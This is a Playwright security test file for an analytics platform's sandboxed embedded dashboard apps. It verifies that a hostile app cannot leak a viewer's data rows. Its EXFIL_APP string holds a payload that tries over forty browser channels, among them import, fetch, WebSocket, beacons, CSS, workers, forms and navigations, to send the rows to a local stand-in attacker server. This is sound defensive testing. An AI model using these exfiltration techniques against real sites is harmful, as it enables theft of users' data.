import http from "node:http";
import type { AddressInfo, Socket } from "node:net";
import { expect, test, type APIRequestContext, type Page } from "@playwright/test";
import { E2E } from "./support/env";
import { createSession, dashboardUrl, eventsOf, getDemoConfig, mark, waitForEvent } from "./support/embed-harness";

// An APP dashboard whose author is the attacker: the app gets the viewer's rows (a signed
// acme-corp viewer, the embed framed by a host page of another origin) and tries every way it
// knows to carry them to a server of its own — a local HTTP server here that records every
// connection and request. None may reach it. The only way out is the app channel to its own
// host page, whose events say they come from the app.

const auth = { authorization: `Bearer ${E2E.adminToken}` };

async function api<T>(request: APIRequestContext, method: "put" | "post" | "patch", path: string, data?: unknown): Promise<T> {
  const response = await request.fetch(`${E2E.platformUrl}${path}`, { method: method.toUpperCase(), headers: auth, ...(data === undefined ? {} : { data }) });
  expect(response.ok(), `${method} ${path}: ${response.status()} ${await response.text()}`).toBe(true);
  return (await response.json()) as T;
}

/** A published app dashboard over one report of its own workbook (sales.count by status), embeddable by every tenant. */
async function publishApp(request: APIRequestContext, slug: string, app: (reportId: number) => Record<string, unknown>) {
  const { deploymentId } = await getDemoConfig(request);
  const workbook = await api<{ id: number }>(request, "put", `/api/v1/deployments/${deploymentId}/workbooks/by-slug/${slug}`, { name: slug });
  const publicId = ("x" + slug.replace(/[^0-9A-Za-z]/g, "") + "000000000000").slice(0, 12);
  const report = await api<{ id: number }>(request, "put", `/api/v1/deployments/${deploymentId}/reports/by-public-id/${publicId}`, {
    name: `${slug.replace(/-/g, "_")}_rows`,
    kind: "table",
    query: { measures: ["sales.count"], dimensions: ["sales.status"] },
    workbookId: workbook.id,
  });
  await api(request, "put", `/api/v1/deployments/${deploymentId}/workbooks/by-slug/${slug}`, {
    meta: { dashboardDraft: { kind: "APP", title: slug, app: app(report.id) } },
  });
  const dashboard = await api<{ publicId: string }>(request, "post", `/api/v1/deployments/${deploymentId}/workbooks/${workbook.id}/dashboard/publish`);
  await api(request, "put", `/api/v1/deployments/${deploymentId}/workbooks/${workbook.id}/embed-access`, {
    rules: [{ embedTenantName: null, action: "read" }],
  });
  await api(request, "patch", `/api/v1/embed/dashboard/${dashboard.publicId}`, { allowEmbed: true });
  return { publicId: dashboard.publicId, reportId: report.id, workbookId: workbook.id, deploymentId };
}

async function openInHost(page: Page, publicId: string) {
  const sessionId = await createSession(page.request, { tenant: "acme-corp" });
  await page.goto(`${E2E.hostUrl}/host.html?embed=${encodeURIComponent(dashboardUrl(publicId, sessionId))}`);
  await waitForEvent(page, "svc:event:dashboard-loaded", { timeout: 30_000 });
  return page.frameLocator("#embed").frameLocator("[data-testid=app-frame]");
}

/** The attacker's server: every TCP connection and every request it sees. */
async function startAttacker() {
  const seen: string[] = [];
  const sockets = new Set<Socket>();
  const server = http.createServer((req, res) => {
    seen.push(`${req.method} ${req.url}`);
    res.writeHead(200, { "content-type": "text/javascript", "access-control-allow-origin": "*" });
    res.end("parent.postMessage('attacker-script-ran', '*');");
  });
  server.on("connection", (socket) => {
    seen.push("connection");
    sockets.add(socket);
    socket.on("close", () => sockets.delete(socket));
  });
  server.on("upgrade", (req, socket) => {
    seen.push(`UPGRADE ${req.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    url,
    seen,
    close: () =>
      new Promise<void>((resolve) => {
        for (const s of sockets) s.destroy();
        server.close(() => resolve());
      }),
  };
}

// Each attempt carries the rows in its URL (`D`). The app lists vega, so the policy allows eval
// (the strongest case: code made at run time); a carrier `<script type="text/plain">` sits in its HTML.
const EXFIL_APP = String.raw`<pre id="out">{}</pre>
<script type="text/plain" id="carrier">import(A + "/x/carrier-inline?d=" + D)</script>
<script>
  var A = "__ATTACKER__", N = "__NAVIGATION_ATTACKER__", D = "";
  const results = {};
  const note = (key, value) => { results[key] = value; document.getElementById("out").textContent = JSON.stringify(results); };
  const u = (key) => A + "/x/" + key + "?d=" + D;
  addEventListener("message", (e) => { if (typeof e.data === "string") note("message:" + e.data, true); });
  async function attempt(key, fn) {
    // An attempt that neither succeeds nor fails in time is noted as such.
    const late = new Promise((resolve) => setTimeout(() => resolve("timed-out"), 3000));
    try { note(key, "reached:" + String(await Promise.race([Promise.resolve().then(fn), late])).slice(0, 60)); } catch (e) { note(key, "blocked:" + ((e && e.name) || "error")); }
  }
  // Resolves when the element loads, rejects on its error, and says "no-event" after a while.
  const settle = (el) => new Promise((resolve, reject) => {
    el.addEventListener("load", () => resolve("loaded"));
    el.addEventListener("error", () => reject(new TypeError("error-event")));
    setTimeout(() => resolve("no-event"), 1500);
  });
  const add = (html) => { const box = document.createElement("div"); document.body.appendChild(box); box.appendChild(document.createRange().createContextualFragment(html)); return box.firstElementChild; };
  const wait = (ms) => new Promise((r) => setTimeout(r, ms));
  (async () => {
    const { rows } = await svc.query(__REPORT__);
    D = encodeURIComponent(JSON.stringify(rows));
    note("rows", rows.length);
    // 1. Dynamic import, from the app's script, from Function, eval and a timer.
    await attempt("import", () => import(u("import")));
    await attempt("functionImport", () => new Function("url", "return import(url)")(u("function-import")));
    await attempt("evalImport", () => eval("import(u('eval-import'))"));
    await attempt("timerImport", () => new Promise((resolve, reject) => {
      window.__done = [resolve, reject];
      setTimeout("import(u('timer-import')).then(window.__done[0], window.__done[1])", 0);
      setTimeout(() => resolve("timer-did-not-run"), 1500);
    }));
    // 2. Script elements to another origin: made, parsed from a fragment, a module, with integrity.
    await attempt("scriptElement", () => { const s = document.createElement("script"); s.src = u("script-element"); document.head.appendChild(s); return settle(s); });
    await attempt("scriptFragment", () => settle(add('<script src="' + u("script-fragment") + '"><\/script>')));
    await attempt("moduleScript", () => { const s = document.createElement("script"); s.type = "module"; s.src = u("module-script"); document.head.appendChild(s); return settle(s); });
    await attempt("scriptIntegrity", () => { const s = document.createElement("script"); s.src = u("script-integrity"); s.integrity = "sha256-47DEQpj8HBSGTVQpnKUdfV5VGYZrrEdJhPMSNAbZL5s="; s.crossOrigin = "anonymous"; document.head.appendChild(s); return settle(s); });
    // 3. The text/plain carrier turned into a script: with a URL, and as inline code.
    await attempt("carrierSrc", () => { const c = document.getElementById("carrier").cloneNode(true); c.type = "text/javascript"; c.src = u("carrier-src"); document.body.appendChild(c); return settle(c); });
    await attempt("carrierInline", () => { const c = document.getElementById("carrier"); c.remove(); c.type = "module"; document.body.appendChild(c); return wait(500).then(() => "inserted"); });
    // 4. Everything else that could carry a URL out.
    await attempt("fetch", () => fetch(u("fetch")).then((r) => r.status));
    await attempt("xhr", () => new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.open("GET", u("xhr")); x.onload = () => resolve(x.status); x.onerror = () => reject(new TypeError("xhr")); x.send(); }));
    await attempt("websocket", () => new Promise((resolve, reject) => { const ws = new WebSocket(u("websocket").replace("http", "ws")); ws.onopen = () => resolve("open"); ws.onerror = () => reject(new TypeError("ws")); setTimeout(() => reject(new TypeError("ws-timeout")), 1500); }));
    await attempt("eventSource", () => new Promise((resolve, reject) => { const es = new EventSource(u("event-source")); es.onopen = () => resolve("open"); es.onerror = () => { es.close(); reject(new TypeError("es")); }; }));
    await attempt("beacon", () => navigator.sendBeacon(u("beacon"), D));
    await attempt("image", () => { const i = new Image(); i.src = u("image"); return settle(i); });
    await attempt("audio", () => { const a = new Audio(u("audio")); a.load(); return settle(a); });
    await attempt("video", () => settle(add('<video src="' + u("video") + '" preload="auto"></video>')));
    await attempt("cssBackground", () => { add('<div style="width:10px;height:10px;background-image:url(' + u("css-background") + ')"></div>'); return wait(300).then(() => "styled"); });
    await attempt("cssImport", () => { add("<style>@import url('" + u("css-import") + "');</style>"); return wait(300).then(() => "styled"); });
    await attempt("stylesheet", () => settle(add('<link rel="stylesheet" href="' + u("stylesheet") + '">')));
    await attempt("font", () => new FontFace("exfil", "url(" + u("font") + ")").load());
    await attempt("object", () => settle(add('<object data="' + u("object") + '"></object>')));
    await attempt("embed", () => settle(add('<embed src="' + u("embed") + '">')));
    await attempt("nestedSrcdocScript", () => settle(add('<iframe srcdoc="&lt;script src=&quot;' + u("nested-srcdoc") + '&quot;&gt;&lt;/script&gt;"></iframe>')));
    for (const rel of ["prefetch", "prerender", "dns-prefetch", "preconnect", "next"]) await attempt(rel, () => settle(add('<link rel="' + rel + '" href="' + u(rel) + '">')));
    await attempt("preloadScript", () => settle(add('<link rel="preload" as="script" href="' + u("preload") + '">')));
    await attempt("modulepreload", () => settle(add('<link rel="modulepreload" href="' + u("modulepreload") + '">')));
    await attempt("worker", () => new Promise((resolve, reject) => { const w = new Worker(u("worker")); w.onerror = () => reject(new TypeError("worker")); setTimeout(() => resolve("no-event"), 1000); }));
    await attempt("blobWorker", () => new Promise((resolve, reject) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('" + u("blob-worker") + "')"], { type: "text/javascript" }))); w.onerror = () => reject(new TypeError("worker")); setTimeout(() => resolve("no-event"), 1000); }));
    await attempt("sharedWorker", () => new Promise((resolve, reject) => { const w = new SharedWorker(u("shared-worker")); w.onerror = () => reject(new TypeError("worker")); setTimeout(() => resolve("no-event"), 1000); }));
    await attempt("serviceWorker", () => navigator.serviceWorker.register(u("service-worker")));
    await attempt("webTransport", () => new WebTransport(u("web-transport").replace("http:", "https:")).ready);
    await attempt("webrtc", () => typeof RTCPeerConnection === "function" ? new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:9" }] }) && "constructed" : Promise.reject(new TypeError(typeof RTCPeerConnection)));
    await attempt("localStorage", () => { localStorage.setItem("d", D); return "stored"; });
    await attempt("indexedDB", () => new Promise((resolve, reject) => { const r = indexedDB.open("exfil"); r.onsuccess = () => resolve("open"); r.onerror = () => reject(new TypeError("idb")); }));
    await attempt("cookie", () => { document.cookie = "d=" + D; return document.cookie; });
    await attempt("popup", () => { const w = window.open(u("popup")); return w ? "opened" : Promise.reject(new TypeError("null")); });
    note("finished", true);
    // Reported on the console too: the navigations below replace this document soon after, and a
    // busy test runner may read #out too late.
    console.log("svc-exfil-results " + JSON.stringify(results));
    svc.loaded();
    // (A link in the app's own frame would replace this document: it goes to a nested frame.)
    attempt("ping", () => { add('<iframe name="pinged"></iframe>'); const a = add('<a href="about:blank" target="pinged" ping="' + u("ping") + '">x</a>'); a.click(); return wait(300).then(() => "clicked"); });
    attempt("topNavigation", () => { top.location.href = u("top-navigation"); return "assigned"; });
    // Speculation rules (prefetch): an inline script, which the policy never runs. These last
    // attempts are not awaited: in Chromium 156 one of them at times stops this frame's timers;
    // the attacker's server is what tells whether they got out.
    attempt("speculationRules", () => { const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [u("speculation")] }] }); document.head.appendChild(s); return wait(500).then(() => "inserted"); });

    // Navigations, last as most would replace this document: a frame of its own to another site, a
    // form, a refresh, a link and a download (without the sandbox's allow-downloads, a navigation)
    // in the frame itself.
    await wait(300);
    const n = (key) => N + "/x/" + key + "?d=" + D;
    add('<iframe src="' + n("frame") + '"></iframe>');
    const form = add('<form method="post" action="' + n("form") + '"><input name="d"></form>');
    form.elements.d.value = D;
    try { form.submit(); } catch (e) {}
    add('<meta http-equiv="refresh" content="0;url=' + n("refresh") + '">');
    add('<a href="' + n("link") + '">x</a>').click();
    add('<a href="' + n("download") + '" download="rows.txt">x</a>').click();
    location.href = n("location");
  })();
</script>`;

test("an app cannot carry the viewer's rows to another server: import(), script URLs, carriers and every other way", async ({ page }) => {
  test.setTimeout(120_000);
  const attacker = await startAttacker();
  // The app's attempts to navigate its own frame go to a server of their own (see below).
  const navigation = await startAttacker();
  try {
    const { publicId } = await publishApp(page.request, "e2e-exfil-app", (reportId) => ({
      html: EXFIL_APP.replace(/__ATTACKER__/g, attacker.url)
        .replace(/__NAVIGATION_ATTACKER__/g, navigation.url)
        .replace(/__REPORT__/g, String(reportId)),
      manifest: { dependencies: { vega: "5" } },
    }));
    const reported = new Promise<Record<string, unknown>>((resolve) => {
      page.on("console", (message) => {
        const text = message.text();
        if (text.startsWith("svc-exfil-results ")) resolve(JSON.parse(text.slice("svc-exfil-results ".length)) as Record<string, unknown>);
      });
    });
    await openInHost(page, publicId);
    const results = await Promise.race([
      reported,
      new Promise<never>((_, reject) => setTimeout(() => reject(new Error("the app reported no results in 60 s")), 60_000)),
    ]);
    expect(results.finished).toBe(true);
    // The app had the rows, and every attempt ran.
    expect(Number(results.rows)).toBeGreaterThan(0);
    expect(Object.keys(results).length).toBeGreaterThan(40);
    // Give late requests (the form, the refresh, the links) time to arrive.
    await page.waitForTimeout(2500);
    // Not a request, not even a connection.
    expect(attacker.seen, JSON.stringify(results, null, 1)).toEqual([]);
    // A navigation of the app's frame is refused by the embed page's frame-src before any
    // request is sent; Chromium opens a connection to the refused address all the same (a
    // parent's own blocked navigation does too): known, see docs/dashboard-apps.md.
    expect(navigation.seen.filter((s) => s !== "connection")).toEqual([]);
    // No script of the attacker's ran anywhere (it would have posted to its parent).
    expect(Object.keys(results).filter((k) => k.startsWith("message:"))).toEqual([]);
    expect(String(results.import)).toMatch(/^blocked:/);
    expect(String(results.functionImport)).toMatch(/^blocked:/);
    expect(String(results.evalImport)).toMatch(/^blocked:/);
    expect(results.webrtc).toBe("blocked:TypeError");
    expect(page.url().startsWith(`${E2E.hostUrl}/host.html`)).toBe(true);
  } finally {
    await attacker.close();
    await navigation.close();
  }
});

test("without a library that needs it, the app gets no eval: Function and string timers do not run", async ({ page }) => {
  const attacker = await startAttacker();
  try {
    const { publicId } = await publishApp(page.request, "e2e-noeval-app", (reportId) => ({
      html: String.raw`<pre id="out"></pre><script>
        svc.query(${reportId}).then(({ rows }) => {
          const url = "${attacker.url}/x/no-eval?d=" + encodeURIComponent(JSON.stringify(rows));
          let result;
          try { new Function("u", "return import(u)")(url); result = "function-ran"; } catch (e) { result = "function:" + e.name; }
          window.__url = url;
          setTimeout("import(window.__url); document.getElementById('out').dataset.timer = 'ran'", 0);
          setTimeout(() => { document.getElementById("out").textContent = result; svc.loaded(); }, 500);
        });
      </script>`,
    }));
    const app = await openInHost(page, publicId);
    await expect(app.locator("#out")).toHaveText("function:EvalError");
    await expect(app.locator("#out")).not.toHaveAttribute("data-timer", "ran");
    await page.waitForTimeout(500);
    expect(attacker.seen).toEqual([]);
  } finally {
    await attacker.close();
  }
});

test("publishing an app with a script from elsewhere is refused, naming the file and the line", async ({ request }) => {
  const { deploymentId } = await getDemoConfig(request);
  const workbook = await api<{ id: number }>(request, "put", `/api/v1/deployments/${deploymentId}/workbooks/by-slug/e2e-external-src`, {
    name: "external src",
    meta: { dashboardDraft: { kind: "APP", app: { html: '<p>hi</p>\n<script src="app.js"></script>\n<script src="http://127.0.0.1:9/x.js"></script>' } } },
  });
  const publish = () => request.post(`${E2E.platformUrl}/api/v1/deployments/${deploymentId}/workbooks/${workbook.id}/dashboard/publish`, { headers: auth });
  let response = await publish();
  expect(response.status()).toBe(400);
  let body = (await response.json()) as { code: string; message: string; details: { path: string[]; message: string }[] };
  expect(body.code).toBe("validation_failed");
  expect(body.message).toContain("html, line 2");
  expect(body.message).toContain("(and 1 more)");
  expect(body.details.map((d) => d.message.slice(0, 7))).toEqual(["line 2:", "line 3:"]);

  await api(request, "put", `/api/v1/deployments/${deploymentId}/workbooks/by-slug/e2e-external-src`, {
    meta: {
      dashboardDraft: {
        kind: "APP",
        app: {
          entry: "index.html",
          files: {
            "index.html": '<script src="./main.js"></script>\n\n<script type="text/plain" src="https://cdn.example/lib.js"></script>',
            "main.js": "svc.loaded()",
          },
        },
      },
    },
  });
  response = await publish();
  expect(response.status()).toBe(400);
  body = (await response.json()) as typeof body;
  expect(body.message).toContain('file "index.html", line 3: <script src="https://cdn.example/lib.js">');
  expect(body.details[0]!.path).toEqual(["meta", "dashboardDraft", "app", "files", "index.html"]);
});

test("the app channel to the host: filters only on the dashboard's members, app events marked and bounded", async ({ page }) => {
  const { publicId } = await publishApp(page.request, "e2e-channel-app", () => ({
    html: String.raw`<button id="go">go</button><script>
      document.getElementById("go").onclick = () => {
        svc.setFilter("any_view.any_member", { operator: "equals", value: "smuggled" });
        svc.setFilter("sales.count", { operator: "gt", value: 1 });
        svc.setFilter("sales.status", { operator: "equals", value: "completed" });
        svc.error("x".repeat(5000), "AppSaid");
        svc.drilldown("sales.count", "y".repeat(5000));
      };
      svc.loaded();
    </script>`,
  }));
  const app = await openInHost(page, publicId);
  const from = await mark(page);
  await app.locator("#go").click();
  const changed = await waitForEvent(page, "svc:event:filters-changed", { from });
  const drill = await waitForEvent(page, "svc:event:drilldown", { from });
  const said = await waitForEvent(page, "svc:event:error", { from, payload: { name: "AppSaid" } });
  const refused = await eventsOf(page, "svc:event:error");
  // Only the member the dashboard's report shows became a filter.
  expect(changed.payload.filterUrlParameters).toEqual(['f_sales.status={"value":"completed"}']);
  expect((await eventsOf(page, "svc:event:filters-changed")).every((e) => !JSON.stringify(e.payload).includes("smuggled"))).toBe(true);
  expect(refused.filter((e) => e.payload.name === "AppFilterRefused")).toHaveLength(2);
  // The app's own words reach the host marked as the app's, and cut short.
  expect(said.payload).toMatchObject({ context: "app", source: "app" });
  expect(String(said.payload.message)).toHaveLength(500);
  expect(drill.payload).toMatchObject({ member: "sales.count", widgetId: "app", source: "app" });
  expect(String(drill.payload.value)).toHaveLength(500);
  // The platform's own errors are not marked as the app's.
  expect(refused.filter((e) => e.payload.name === "AppFilterRefused").every((e) => e.payload.source === undefined)).toBe(true);
});
